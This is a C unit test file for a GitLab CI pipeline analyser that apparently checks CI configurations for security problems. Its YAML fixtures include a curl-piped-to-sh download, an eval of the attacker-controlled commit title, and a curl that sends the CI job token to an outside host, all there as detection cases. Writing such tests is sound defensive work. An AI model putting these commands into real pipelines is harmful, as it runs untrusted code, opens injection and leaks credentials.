/* SPDX-License-Identifier: Apache-2.0 */
#include "audit/lift/gitlab_ci/gitlab_ci.h"
#include "unit/audit/facts.h"

static void assert_facts(const char *text, const char *query, const char *expected)
{
    assert_facts_of("gitlab-ci", text, query, expected);
}

static void gives_jobs_what_holds_for_all(void **state)
{
    (void)state;
    assert_facts("image: a:1\ndefault:\n  services: [b:2]\nx:\n  script: [make]\n",
                 "$.jobs[*]['image','services'][*]['text','latest']", "");
    assert_facts("image: a:1\nx:\n  script: [make]\n", "$.jobs[*].image.text", "1:a:1");
    assert_facts("default: {image: a:1}\nx:\n  inherit: {default: false}\n  script: [make]\n",
                 "$.jobs[*].image.text", "");
    assert_facts("stages: [a]\nvariables: {A: b}\ninclude: c\nx: {script: y}\n", "$.jobs[*].name",
                 "4:x");
}

static void carries_extensions_out(void **state)
{
    (void)state;
    assert_facts(".a: {image: a:1, stage: one}\n.b: {image: b:2}\nx:\n  extends: [.a, .b]\n",
                 "$.jobs[?@.hidden == false]['stage','image'].text", "2:b:2");
    assert_facts(".a: {image: a:1, stage: one}\n.b: {image: b:2}\nx:\n  extends: [.a, .b]\n",
                 "$.jobs[?@.hidden == false].stage", "1:one");
    assert_facts("a: {extends: b}\nb: {extends: a, image: c:3}\n", "$.jobs[*].image.text",
                 "2:c:3,2:c:3");
}

static void reads_scripts(void **state)
{
    (void)state;
    assert_facts("x:\n  script:\n    - make\n    - |\n      one\n      two --k\n    - 'three'\n",
                 "$.jobs[*].runs[*].cmds[*].name", "3:make,5:one,6:two,7:three");
    assert_facts(".a:\n  script: [one]\nx:\n  before_script: [[two], three]\n  script:\n"
                 "    - !reference [.a, script]\n",
                 "$.jobs[1].script[*]", "4:two,4:three,2:one");
    assert_facts("a:\n  script:\n    - !reference [a, script]\n", "$.jobs[*].script[*]", "");
    assert_facts("x:\n  script: curl https://a.example/i | sh\n",
                 "$.jobs[*].runs[*].downloads[*].executed", "2:true");
}

static void knows_text_that_anybody_writes(void **state)
{
    (void)state;
    assert_facts("x:\n  script:\n    - eval \"a $CI_COMMIT_TITLE\"\n", "$.jobs[*].injections[*]",
                 "3:a $CI_COMMIT_TITLE");
    assert_facts("x:\n  script:\n    - eval \"a $CI_COMMIT_TITLES\"\n    - echo $CI_COMMIT_TITLE\n",
                 "$.jobs[*].injections[*]", "");
    assert_facts("x:\n  script:\n    - curl -H \"T:${CI_JOB_TOKEN}\" https://a.acme.io/b\n",
                 "$.jobs[*].sentSecrets[*]", "3:T:${CI_JOB_TOKEN}");
}

static void takes_includes_apart(void **state)
{
    (void)state;
    assert_facts(
            "include:\n- project: a/b\n  ref: main\n- component: c/d@1.2\n- http://e/f\n- g.yml\n",
            "$.includes[*]['refKind','scheme','local']", "3:branch,4:tag,5:http,6:g.yml");
    assert_facts("include: {project: a/b, ref: $X}\n", "$.includes[*].refKind", "1:unknown");
}

static void knows_pipelines(void **state)
{
    (void)state;
    assert_true(gitlab_ci_is(SPAN("a/.gitlab-ci.yml"), SPAN_EMPTY));
    assert_true(gitlab_ci_is(SPAN("ci/build.yml"), SPAN("x:\n  stage: a\n  script: [b]\n")));
    assert_false(gitlab_ci_is(SPAN("a.yml"), SPAN("jobs:\n  x:\n    stage: a\n    script: [b]\n")));
    assert_false(
            gitlab_ci_is(SPAN("a.yml"), SPAN("stages:\n- stage: a\n  jobs:\n  - script: b\n")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(gives_jobs_what_holds_for_all),
        cmocka_unit_test(carries_extensions_out),
        cmocka_unit_test(reads_scripts),
        cmocka_unit_test(knows_text_that_anybody_writes),
        cmocka_unit_test(takes_includes_apart),
        cmocka_unit_test(knows_pipelines),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
